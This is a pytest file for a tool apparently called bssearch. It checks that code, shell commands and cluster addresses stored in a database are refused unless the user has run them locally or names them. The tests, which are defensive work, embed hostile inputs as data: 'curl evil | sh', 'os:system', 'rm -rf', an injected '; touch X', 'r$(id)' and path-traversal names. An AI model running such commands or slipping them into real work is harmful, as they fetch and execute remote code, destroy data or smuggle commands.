"""A database's word is not enough to run code: the user has run it before, or names it."""

from dataclasses import replace
from pathlib import Path

import pytest

from bssearch.commands.launch import Launch
from bssearch.commands.opening import known_folder, refuse_unknown_address, remember
from bssearch.commands.run import confirm_study
from bssearch.errors import UsageError
from bssearch.records import StudyRecord
from bssearch.settings import STATE_DIR_VARIABLE, state_folder
from bssearch.spec import StudySpec
from tests.analysis.test_report import study
from tests.factories import SPEC, make_spec, not_none

FOLDER = Path("/nowhere")
OWN = make_spec(workload="task.py:Task", workload_settings={"width": 8})


@pytest.fixture(autouse=True)
def _state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(STATE_DIR_VARIABLE, str(tmp_path / "state"))


def stored() -> StudyRecord:
    return study(OWN)


def test_what_was_run_here_is_known_and_nothing_else() -> None:
    with pytest.raises(UsageError, match="which you have not run for it on this machine") as caught:
        known_folder(OWN, stored(), FOLDER)
    assert caught.value.hint == "if you trust it, add --workload task.py:Task"
    remember(OWN, stored(), FOLDER)
    known_folder(OWN, stored(), FOLDER)
    for changed in (
        OWN.model_copy(update={"workload": "other.py:Task"}),
        OWN.model_copy(update={"workload": "os:system"}),
        OWN.model_copy(update={"workload_settings": {"width": "rm -rf"}}),
    ):
        with pytest.raises(UsageError, match="on a database's word alone"):
            known_folder(changed, stored(), FOLDER)
    with pytest.raises(UsageError, match="on a database's word alone"):
        known_folder(OWN, replace(stored(), spec_hash="another"), FOLDER)


@pytest.mark.parametrize("workload", ["/tmp/task.py:Task", "../task.py:Task", "a/../../task.py:Task"])
def test_a_file_outside_of_the_folder_is_not_taken_from_a_database_whoever_ran_it(workload: str) -> None:
    outside = OWN.model_copy(update={"workload": workload})
    remember(outside, stored(), FOLDER)
    with pytest.raises(UsageError, match="a file outside of this folder"):
        known_folder(outside, stored(), FOLDER)


def on_cluster(address: str) -> StudySpec:
    return make_spec(workload="digits", executor={"name": "ray", "address": address})


def test_a_cluster_is_not_taken_from_a_database_unless_the_study_was_run_there_from_here() -> None:
    ours, theirs = on_cluster("ray-1:6379"), on_cluster("ray-2:6379")
    with pytest.raises(UsageError, match="nothing is connected to on a database's word alone"):
        refuse_unknown_address(ours, stored())
    remember(ours, stored(), FOLDER)
    refuse_unknown_address(ours, stored())
    with pytest.raises(UsageError, match=r"executor\.address = 'ray-2:6379'"):
        refuse_unknown_address(theirs, stored())
    refuse_unknown_address(make_spec(workload="digits", executor={"name": "ray"}), stored())


def test_a_shipped_workload_needs_no_record() -> None:
    known_folder(make_spec(workload="digits"), stored(), FOLDER)


def test_where_nothing_can_be_remembered_nothing_is_known(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("")
    monkeypatch.setenv(STATE_DIR_VARIABLE, str(blocked))
    remember(OWN, stored(), FOLDER)
    with pytest.raises(UsageError, match="on a database's word alone"):
        known_folder(OWN, stored(), FOLDER)


def test_code_is_known_by_its_content_and_lies_in_the_folder_itself(tmp_path: Path) -> None:
    mine, shared = tmp_path / "mine", tmp_path / "shared"
    for folder in (mine, shared):
        folder.mkdir()
    (mine / "task.py").write_text("mine")
    remember(OWN, stored(), mine)
    known_folder(OWN, stored(), mine)
    (shared / "task.py").write_text("another's")
    with pytest.raises(UsageError, match="as it is now"):
        known_folder(OWN, stored(), shared)
    (shared / "task.py").unlink()
    (shared / "task.py").symlink_to(mine / "task.py")
    with pytest.raises(UsageError, match="a file outside of this folder"):
        known_folder(OWN, stored(), shared)
    inline = OWN.model_copy(update={"executor": OWN.executor.model_copy(update={"name": "inline"})})
    with pytest.raises(UsageError, match="on a database's word alone"):
        known_folder(inline, stored(), mine)


def test_a_name_in_a_hint_is_quoted() -> None:
    odd = OWN.model_copy(update={"workload": "task.py:Task; touch X"})
    with pytest.raises(UsageError) as caught:
        known_folder(odd, stored(), FOLDER)
    assert caught.value.hint == "if you trust it, add --workload 'task.py:Task; touch X'"


REPORT = {"step": r"step (\d+)", "accuracy": r"acc=(\S+)"}
COMMAND = ["bash", "train.sh", "{batch_size}", "{learning_rate}"]


def of_command(**changes: object) -> StudySpec:
    space = {key: value for key, value in SPEC["space"].items() if key in ("batch_size", "learning_rate")}
    default = {"batch_size": 32, "learning_rate": 0.1}
    values = {key: value for key, value in SPEC.items() if key != "workload"}
    return StudySpec.model_validate({**values, "space": space, "default": default, "command": COMMAND, **changes})


def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path) -> None:
    own, record = of_command(), study(of_command())
    (tmp_path / "train.sh").write_text("mine")
    with pytest.raises(UsageError, match="on a database's word alone") as caught:
        known_folder(own, record, tmp_path)
    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in not_none(
        caught.value.hint
    )
    remember(own, record, tmp_path)
    known_folder(own, record, tmp_path)
    others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
    for other in [*(of_command(command=one) for one in others), of_command(report=REPORT)]:
        with pytest.raises(UsageError, match="on a database's word alone"):
            known_folder(other, record, tmp_path)
    (tmp_path / "train.sh").write_text("another's")
    with pytest.raises(UsageError, match="as it is now"):
        known_folder(own, record, tmp_path)


def with_activation(domain: object, default: str = "relu") -> StudySpec:
    base = of_command().model_dump(mode="json", exclude_unset=True)
    return of_command(
        command=[*COMMAND, "{activation}"],
        space={**base["space"], "model": {"activation": domain}},
        default={**base["default"], "model": {"activation": default}},
    )


def test_a_text_that_a_stored_space_adds_is_refused_and_one_that_it_leaves_out_is_not(tmp_path: Path) -> None:
    own = with_activation(["relu", "gelu"])
    record = study(own)
    remember(own, record, tmp_path)
    known_folder(own, record, tmp_path)
    known_folder(with_activation("relu"), record, tmp_path)
    for forged in (with_activation(["relu", "r$(id)"]), with_activation(["relu", "gelu"], default="r$(id)")):
        with pytest.raises(UsageError, match="as it is now") as caught:
            known_folder(forged, record, tmp_path)
        assert caught.value.hint is not None and "'r$(id)'" in caught.value.hint


@pytest.mark.parametrize("text", ["", "[]", "3", "{}", '{"texts": 3}', '{"texts": [[]]}'])
def test_a_record_that_cannot_be_read_knows_nothing(text: str) -> None:
    remember(OWN, stored(), FOLDER)
    (file,) = (state_folder() / "workloads").iterdir()
    file.write_text(text)
    with pytest.raises(UsageError, match="on a database's word alone"):
        known_folder(OWN, stored(), FOLDER)


def test_a_file_elsewhere_that_a_command_names_is_known_by_its_content_too(tmp_path: Path) -> None:
    for place in ("here", "shared"):
        (tmp_path / place).mkdir()
    far, linked = tmp_path / "shared" / "train.sh", tmp_path / "here" / "linked.sh"
    far.write_text("as it was")
    linked.symlink_to(far)
    for name in (str(far), "linked.sh", f"--file={far}"):
        far.write_text("as it was")
        own = of_command(command=["bash", name, *COMMAND[2:]])
        remember(own, study(own), tmp_path / "here")
        known_folder(own, study(own), tmp_path / "here")
        far.write_text("another's")
        with pytest.raises(UsageError, match="as it is now"):
            known_folder(own, study(own), tmp_path / "here")


def test_no_workload_takes_the_place_of_a_command() -> None:
    with pytest.raises(UsageError, match="the training of study 'toy' is a command") as caught:
        confirm_study(of_command(), Launch(workload="digits", db="sqlite://"))
    assert caught.value.hint is not None and caught.value.hint.startswith("--workload command runs the command, bash")
